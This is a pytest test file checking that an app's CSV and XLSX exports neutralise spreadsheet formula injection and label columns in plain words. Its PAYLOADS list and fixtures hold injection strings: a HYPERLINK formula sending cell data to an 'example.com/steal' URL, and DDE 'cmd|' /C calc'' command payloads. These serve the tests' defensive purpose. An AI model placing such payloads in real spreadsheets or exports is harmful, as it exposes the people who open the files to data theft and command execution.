"""No live formula reaches a CSV or XLSX export, and CSVs are plain tables (#18, #14)."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest

import layers
from layers.alignment import place_card_xlsx
from layers.export import (
    chromium_path,
    export_unavailable_reason,
    figure_bytes,
    table_about,
    table_csv,
    table_xlsx,
    workbook_xlsx,
)
from layers.format import COLUMN_LABELS, column_label
from layers.names import FORMULA_PREFIXES
from layers.vintages import get_vintage

PAYLOADS = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "place_name": [*PAYLOADS, "North"],
            "pounds": [-1500, -2.5, 0, 1, 2, 3, 4],
            "shown": ["-£1,500", "+0.50", "-12%", "x", "y", "z", "=1"],
            '=HYPERLINK("http://h")': range(7),
        }
    )


def live_text(value: object) -> bool:
    """Text a spreadsheet would run: a formula start that is not a plain number."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not re.fullmatch(r"[+-]?£?[0-9,]+(\.[0-9]+)?%?", value)
    )


def test_csv_export_holds_no_live_formula(hostile):
    data = table_csv(hostile, "Hostile")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Place", "£", "Shown", '\'=HYPERLINK("http://h")']
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if live_text(c)]
    # Every payload is still there, readable, behind the quote.
    assert [row[0] for row in rows[1:-1]] == [f"'{p}" for p in PAYLOADS]
    # Real negative numbers stay numbers; number-like text stays as it is.
    read = pd.read_csv(io.BytesIO(data))
    assert read["£"].tolist() == [-1500, -2.5, 0, 1, 2, 3, 4]
    assert read["Shown"].tolist()[:3] == ["-£1,500", "+0.50", "-12%"]


def xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_xlsx_export_holds_no_live_formula(hostile):
    cells = xlsx_cells(table_xlsx(hostile, '=HYPERLINK("http://t")'))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if live_text(c.value)]
    numbers = [c.value for c in cells if c.column_letter == "B" and c.row > 1]
    assert numbers == [-1500, -2.5, 0, 1, 2, 3, 4]
    assert all(c.data_type == "n" for c in cells if c.column_letter == "B" and c.row > 1)


def test_the_check_finds_a_live_formula():
    # Written the way exports used to be (xlsxwriter's defaults), a payload is a formula.
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="xlsxwriter") as writer:
        pd.DataFrame({"a": [PAYLOADS[0]]}).to_excel(writer, index=False)
    assert [c.data_type for c in xlsx_cells(buffer.getvalue())] == ["s", "f"]


def test_place_card_workbook_goes_through_the_same_path():
    facts = pd.DataFrame({"Item": ["Place"], "Value": ["@North"]})
    units = pd.DataFrame(
        {
            "unit_code": ["U1"],
            "unit_name": ["=cmd|' /C calc'!A0"],
            "unit_type": ["pcn"],
            "patients": [1000],
            "home_patients": [600],
            "home_share": [0.6],
        }
    )
    cells = xlsx_cells(place_card_xlsx(facts, units, title="+Town"))
    assert not [c for c in cells if c.data_type == "f" or live_text(c.value)]
    assert {"'@North", "'=cmd|' /C calc'!A0", "'+Town"} <= {c.value for c in cells}


def test_csv_opens_with_a_plain_read_csv_and_headers_are_words():
    table = pd.DataFrame(
        {"pcn_code": ["U1"], "pcn_name": ["Café PCN"], "registered_patients": [1234]}
    )
    data = table_csv(table, "PCNs")
    assert data.startswith("\ufeff".encode())  # Excel reads the £ and accents as UTF-8
    read = pd.read_csv(io.BytesIO(data))
    assert read.columns.tolist() == ["PCN code", "PCN", "Registered patients (Jul 2022)"]
    assert read.iloc[0].tolist() == ["U1", "Café PCN", 1234]
    about = table_about("PCNs of QGH", "2022").decode()
    info = layers.get_vintage("2022")
    assert about.splitlines() == ["PCNs of QGH", f"Data: {info.data_line}", info.sources]
    sheets = pd.read_excel(io.BytesIO(table_xlsx(table, "PCNs", "2026")), sheet_name=None)
    info = get_vintage("2026")
    assert sheets["About"]["About"].tolist() == ["PCNs", f"Data: {info.data_line}", info.sources]


def test_column_labels_are_words():
    assert all(label != name for name, label in COLUMN_LABELS.items())
    assert column_label("lsoa_code") == "LSOA code"
    assert column_label("n_places") == "Places"
    assert column_label("low_imd_1_2_pct") == "Low risk in IMD deciles 1–2 (%)"
    assert column_label("former_ccg_name") == "Former CCG name"
    assert column_label("Registered patients") == "Registered patients"
    workbook = workbook_xlsx({"Data": pd.DataFrame({"icb_code": ["QGH"]})}, "t")
    assert pd.read_excel(io.BytesIO(workbook)).columns.tolist() == ["ICB code"]


def test_export_unavailable_reason_names_the_fix(monkeypatch, tmp_path):
    """kaleido pointed at a browser that is not there: the message names the fix (#18)."""
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-such-browser"))
    monkeypatch.setattr("layers.export._CHROMIUM", tmp_path / "chromium")
    downloaded = tmp_path / "deps" / "chrome-linux64" / "chrome"
    monkeypatch.setattr("layers.export._kaleido_download", lambda: downloaded)
    assert chromium_path() is None
    assert export_unavailable_reason() == (
        "Image, PDF and slide-deck downloads need the Chromium browser, which is not "
        "installed on this server. Install it with: apt-get install -y chromium (or, "
        "without root: .venv/bin/kaleido_get_chrome)."
    )
    # ... and figure_bytes refuses with the same message instead of failing inside kaleido.
    with pytest.raises(RuntimeError, match="apt-get install -y chromium"):
        figure_bytes(go.Figure(), "png")
    # The Chrome that kaleido_get_chrome downloads counts ...
    downloaded.parent.mkdir(parents=True)
    downloaded.write_text("#!/bin/sh\n")
    assert chromium_path() == downloaded
    assert export_unavailable_reason() is None
    downloaded.unlink()
    # ... and so does a Chromium where kaleido is pointed.
    browser = tmp_path / "chromium"
    browser.write_text("#!/bin/sh\n")
    browser.chmod(0o755)
    assert export_unavailable_reason() is None
